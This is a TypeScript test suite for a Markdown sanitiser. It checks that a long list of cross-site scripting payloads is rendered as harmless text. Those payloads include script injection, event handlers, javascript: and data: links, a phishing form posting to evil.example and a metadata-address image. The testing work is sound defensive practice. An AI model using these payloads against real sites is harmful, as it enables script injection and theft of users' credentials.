import fc from 'fast-check'
import { describe, expect, test } from 'vitest'
import { renderMarkdown } from '../../src/language/markdown'
import { rounds } from '../support/rounds'

/** Everything that Markdown may become in a page: tag → its attributes. */
const allowed: Readonly<Record<string, readonly string[]>> = {
  p: [],
  ul: [],
  ol: ['start'],
  li: ['id'],
  h3: [],
  h4: [],
  table: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ['class', 'scope'],
  td: ['class'],
  sup: [],
  section: ['role'],
  strong: [],
  em: [],
  a: ['href', 'title', 'id', 'role'],
  br: [],
  blockquote: [],
  code: [],
}

/** Values that only the sanitiser writes. */
const fixed: Readonly<Record<string, RegExp>> = {
  id: /^(note|mark)-text:\d+(:\d+)?$/,
  role: /^doc-(noteref|backlink|endnotes)$/,
  class: /^(centre|number)$/,
  scope: /^(col|row)$/,
}

const decoded = (text: string) => {
  const entities: Readonly<Record<string, string>> = { '&amp;': '&', '&lt;': '<', '&gt;': '>', '&quot;': '"' }
  return text.replace(/&\w+;/g, (entity) => entities[entity] ?? entity)
}

/** A whole tag in its one spelling, or a character that may only stand as an entity. */
const token = /<(?<slash>\/?)(?<name>[a-z]+[3-4]?)(?<attributes>(?: [a-z]+="[^"<>]*")*)>|(?<bare>[<>"]|&(?!(?:amp|lt|gt|quot);))/g

/**
 * What is in a piece of HTML that should not be, read more strictly than any browser reads: each `<` begins a whole tag of the
 * list, closed in turn, with attributes of the list in double quotes; each `&` begins an entity.
 */
function offences(html: string): readonly string[] {
  const found: string[] = []
  const open: string[] = []
  for (const { groups = {} } of html.matchAll(token)) {
    const { slash, name = '', attributes = '', bare } = groups
    if (bare !== undefined) found.push(`a bare ${bare}`)
    else if (slash === '/') {
      if (open.pop() !== name || attributes !== '') found.push(`</${name}> out of turn`)
    } else {
      if (!Object.hasOwn(allowed, name)) found.push(`<${name}>`)
      if (name !== 'br') open.push(name)
      for (const [, key = '', value = ''] of attributes.matchAll(/ ([a-z]+)="([^"]*)"/g))
        found.push(...offencesOfAttribute(name, key, value))
    }
  }
  return [...found, ...open.map((name) => `<${name}> left open`)]
}

function offencesOfAttribute(tag: string, key: string, value: string): readonly string[] {
  if (!allowed[tag]?.includes(key)) return [`<${tag} ${key}>`]
  if (/&(?!(?:amp|lt|gt|quot);)/.test(value)) return [`a bare & in ${key}`]
  if (key === 'start') return /^\d+$/.test(value) ? [] : [`start=${value}`]
  if (key !== 'href') return fixed[key]?.test(value) === false ? [`${key}=${value}`] : []
  if (/^#(note|mark)-text:\d+(:\d+)?$/.test(value)) return []
  return ['http:', 'https:', 'mailto:'].includes(URL.parse(decoded(value))?.protocol ?? '') ? [] : [`href=${value}`]
}

const linksIn = (html: string) => [...html.matchAll(/ href="([^"]*)"/g)].map(([, href = '']) => decoded(href))

describe('the judge of this page', () => {
  test.each([
    '<script>alert(1)</script>',
    '<p onclick="x">a</p>',
    '<p onclick=x>a</p>',
    '<a href="javascript:alert(1)">a</a>',
    '<a href="&#106;avascript:alert(1)">a</a>',
    '<a href="/relative">a</a>',
    '<a href="https://port.example" target="_blank">a</a>',
    '<img src="https://port.example/x.png">',
    '<P>a</P>',
    '<p>a',
    '<p>a</em></p>',
    '<em><strong>a</em></strong>',
    '<p>1 < 2</p>',
    '<p>1 > 2</p>',
    '<p>a & b</p>',
    '<p>&copy;</p>',
    '<!-- a -->',
    '<s>a</s>',
    '<ol start="x"></ol>',
  ])('finds fault with %s', (html) => {
    expect(offences(html)).not.toEqual([])
  })

  test('has nothing to say of what is allowed', () => {
    const html =
      '<ol start="3">\n<li><a href="https://port.example/?a=1&amp;b=2" title="&quot;a&quot;">a &lt; b</a><br>\n<code>c</code></li>\n</ol>'
    expect(offences(html)).toEqual([])
  })
})

describe('Markdown that an author writes', () => {
  test.each([
    ['A *word* and **two**', '<p>A <em>word</em> and <strong>two</strong></p>'],
    [
      '[notice](https://port.example/notice "The notice")',
      '<p><a href="https://port.example/notice" title="The notice">notice</a></p>',
    ],
    ['[desk](mailto:desk@port.example)', '<p><a href="mailto:desk@port.example">desk</a></p>'],
    ['<https://port.example/>', '<p><a href="https://port.example/">https://port.example/</a></p>'],
    ['- one\n- two', '<ul>\n<li>one</li>\n<li>two</li>\n</ul>'],
    ['3. three\n4. four', '<ol start="3">\n<li>three</li>\n<li>four</li>\n</ol>'],
    ['> said', '<blockquote>\n<p>said</p>\n</blockquote>'],
    ['one  \ntwo', '<p>one<br>\ntwo</p>'],
    ['`a < b`', '<p><code>a &lt; b</code></p>'],
    ['1 < 2 & "3"', '<p>1 &lt; 2 &amp; &quot;3&quot;</p>'],
    ['', ''],
  ])('becomes what they mean: %j', (markdown, html) => {
    expect(renderMarkdown(markdown)).toBe(html)
    expect(offences(html)).toEqual([])
  })

  test.each([
    '# Heading',
    '## Heading',
    '##### Heading',
    '> ### Heading',
    '- ### Heading',
    'Heading\n===',
    'one\n\n---\n\ntwo',
    '    indented',
    '```js\nfenced\n```',
    '~~gone~~',
  ])('has no titles, rules, blocks of code or strokes, which the page has no place for: %j', (markdown) => {
    expect(renderMarkdown(markdown)).not.toMatch(/<(h\d|hr|pre|table|s|del)\b/)
    expect(offences(renderMarkdown(markdown))).toEqual([])
  })

  test('has no link that leads nowhere: its words are left, and links beside it stand', () => {
    for (const nowhere of ['[x]()', '[x](<>)', '[**x**]( )', 'x[x\\](javascript:alert(1))]()']) {
      expect([nowhere, linksIn(renderMarkdown(nowhere))]).toEqual([nowhere, []])
    }
    const html = renderMarkdown('[one]() and [two](https://a.example/) and [three]()')
    expect(html).toBe('<p>one and <a href="https://a.example/">two</a> and three</p>')
  })

  test('keeps what a picture shows, and fetches it from nowhere', () => {
    expect(renderMarkdown('![An empty quay](https://tracker.example/pixel.png)')).toBe('<p>An empty quay</p>')
    expect(renderMarkdown('![a"><script>](http://169.254.169.254/ "t")')).toBe('<p>a&quot;&gt;&lt;script&gt;</p>')
  })

  test('in Arabic and Japanese is emphasised as in English', () => {
    expect(renderMarkdown('أُغلق **الميناء** اليوم')).toBe('<p>أُغلق <strong>الميناء</strong> اليوم</p>')
    expect(renderMarkdown('港は **閉鎖** された')).toBe('<p>港は <strong>閉鎖</strong> された</p>')
  })
})

const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>',
  '<style>@import "//evil.example/x.css";</style>',
  '<p style="position:fixed;inset:0">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
  '<base href=//evil.example/>',
  '<iframe src=javascript:alert(1)></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data=data:text/html,x>',
  '<embed src=//evil.example/x.swf>',
  '<form action=//evil.example><input name=password><button>Sign in</button></form>',
  '<a id="location" name="cookie">clobber</a>',
  '<form id=document><input name=getElementById></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<!DOCTYPE html [<!ENTITY x "y">]>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;script&#62;alert(1)&#60;/script&#62;',
  '\\<script>alert(1)\\</script>',
  '`<script>alert(1)</script>`',
  '<div>\n\n<script>alert(1)</script>\n\n</div>',
  '[a](javascript:alert(1))',
  '[a](JaVaScRiPt:alert(1))',
  '[a]( javascript:alert(1))',
  '[a](<javascript:alert(1)>)',
  '[a](<java\tscript:alert(1)>)',
  '[a](java&Tab;script:alert(1))',
  '[a](java&NewLine;script:alert(1))',
  '[a](&#106;avascript:alert(1))',
  '[a](&#x6A;&#x61;vascript&colon;alert(1))',
  '[a](\u0001javascript:alert(1))',
  '[a](\u00a0javascript:alert(1))',
  '[a](javascript\\:alert(1))',
  '[a](javascript%3Aalert(1))',
  '[a](javascript://port.example/%0aalert(1))',
  '[a](data:text/html;base64,PHNjcmlwdD4=)',
  '[a](data:image/svg+xml,<svg/onload=alert(1)>)',
  '[a](DATA:text/html,x)',
  '[a](vbscript:msgbox(1))',
  '[a](VbScRiPt:msgbox(1))',
  '[a](file:///etc/passwd)',
  '[a](blob:https://port.example/x)',
  '[a](//evil.example)',
  '[a](\\\\evil.example)',
  '[a](/newsroom/delete)',
  '[a](#clobber)',
  '[a](?x)',
  '[a](http:evil.example)',
  '[a](https:/evil.example)',
  '[a](https://port.example/" onclick="alert(1))',
  '[a](<https://port.example/" onclick="alert(1)>)',
  '[a](https://port.example/ "t" onclick=alert(1))',
  '[a](https://port.example/ "&quot; onclick=&quot;alert(1)")',
  "[a](https://port.example/ '\"><script>alert(1)</script>')",
  '[a](https://port.example/ (<script>))',
  '[<img src=x onerror=alert(1)>](https://port.example/)',
  '[![a](javascript:alert(1))](javascript:alert(2))',
  '[a][x]\n\n[x]: javascript:alert(1)',
  '[x]: javascript:alert(1) "<script>"\n\n[x] [x][] [a][x]',
  '![a](javascript:alert(1))',
  '![a](data:image/svg+xml,<svg/onload=alert(1)>)',
  '![<script>alert(1)</script>](https://port.example/x.png)',
  '![a" onerror="alert(1)](https://port.example/x.png)',
  '<javascript:alert(1)>',
  '<data:text/html,x>',
  '<vbscript:x>',
  '<x:alert(1)>',
  '<a@b.c"onclick=alert(1)>',
  '<https://port.example/"onclick="alert(1)>',
  'https://port.example/<script>',
  'www.evil.example javascript:alert(1)',
  '3. <script>\n0. x',
  '999999999. x',
  '- <svg onload=alert(1)>\n  - <script>',
  '> <script>\n> alert(1)',
  '<script\n>alert(1)</script\n>',
  '<b>a</b> <input> <h1 id=top>',
  '**<script>**alert(1)**</script>**',
  '```<script>\nalert(1)\n```',
  '```"onclick="alert(1)\nx\n```',
  '| <script> |\n|-|\n| <script> |',
  '[^a"onclick="alert(1)]\n\n[^a"onclick="alert(1)]: <script>',
  '[^x]\n\n[^x]: [x](javascript:alert(1))',
  '[^__proto__]\n\n[^__proto__]: x',
  '|a|\n|-|\n|[^1]|\n\n[^1]: x [^1]',
  '### <script>',
  '\0<script>alert(1)</script>',
  '\ufeff<script>alert(1)</script>',
  '\ud800<script>alert(1)</script>',
]

describe('Markdown that an attacker writes', () => {
  test.each(hostile)('%j becomes text', (markdown) => {
    const html = renderMarkdown(markdown)
    expect(offences(html)).toEqual([])
    expect(linksIn(html).filter((href) => !/^(https?:\/\/|mailto:|#(?:note|mark)-text:\d)/.test(href))).toEqual([])
  })

  test('leaves its HTML to be read, so that nobody wonders where it went', () => {
    expect(renderMarkdown('<script>alert(1)</script>')).toBe('<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>')
    expect(renderMarkdown('[a](javascript:alert(1))')).toBe('<p>[a](javascript:alert(1))</p>')
  })

  test('put together from any pieces stays within what is allowed', () => {
    const piece = fc.oneof(
      fc.constantFrom(...hostile),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '&',
        '[',
        ']',
        '(',
        ')',
        '![',
        '](',
        '\n',
        '\n\n',
        '  \n',
        '> ',
        '- ',
        '1. ',
        '*',
        '**',
        '_',
        '`',
        '\\',
        ' ',
        'https://a.example/',
        'javascript:',
        'mailto:',
        '&#106;',
        '&colon;',
        '\t',
        '|',
        '|-|\n',
        '### ',
        '[^1]',
        '\n\n[^1]: ',
      ),
      fc.string({ unit: 'binary', maxLength: 5 }),
    )
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 30 }), (pieces) => {
        expect(offences(renderMarkdown(pieces.join('')))).toEqual([])
      }),
      { numRuns: rounds(500) },
    )
  })

  test.each([
    ['blockquotes', '> '.repeat(5000)],
    ['blockquotes with a word in them', `${'> '.repeat(5000)}a`],
    ['lists', '- '.repeat(5000)],
    ['brackets', '['.repeat(20_000)],
    ['brackets that close', `${'['.repeat(5000)}a${']'.repeat(5000)}`],
    ['links', `${'['.repeat(2500)}a${'](https://a.example/)'.repeat(2500)}`],
    ['links that never close', '[a](<https://a.example/'.repeat(1000)],
    ['pictures', '!['.repeat(10_000)],
    ['emphasis', '**a *b _c '.repeat(2000)],
    ['emphasis that closes', `${'*'.repeat(5000)}a${'*'.repeat(5000)}`],
    ['code', Array.from({ length: 190 }, (_none, length) => '`'.repeat(length)).join(' ')],
    ['comments', '<!-'.repeat(6000)],
    ['addresses', '<https://a.example'.repeat(1000)],
    ['entities', '&#x'.repeat(6000)],
    ['a single word', 'a'.repeat(200_000)],
    ['marks', `Z${'\u0301'.repeat(100_000)}`],
    ['blank lines', '\n'.repeat(20_000)],
    ['backslashes', '\\'.repeat(20_000)],
    ['cells', `|a|\n|-|\n${'|'.repeat(20_000)}`],
    ['rows', `|a|\n|-|\n${'|ab|\n'.repeat(4000)}`],
    ['sub-headings', '### a\n'.repeat(3000)],
    ['texts of footnotes', '[^a]: b\n\n'.repeat(2000)],
  ])('thousands deep in %s comes to an end, within what is allowed and no longer than it was by much', (_what, markdown) => {
    const html = renderMarkdown(markdown)
    expect(offences(html)).toEqual([])
    expect(html.length).toBeLessThanOrEqual(markdown.length * 6 + 2000)
  })

  test('nested twenty deep is shown twenty deep, and no deeper', () => {
    const deep = renderMarkdown(`${'> '.repeat(5000)}a`)
    expect(deep.match(/<blockquote>/g)?.length).toBeLessThanOrEqual(20)
  })
})
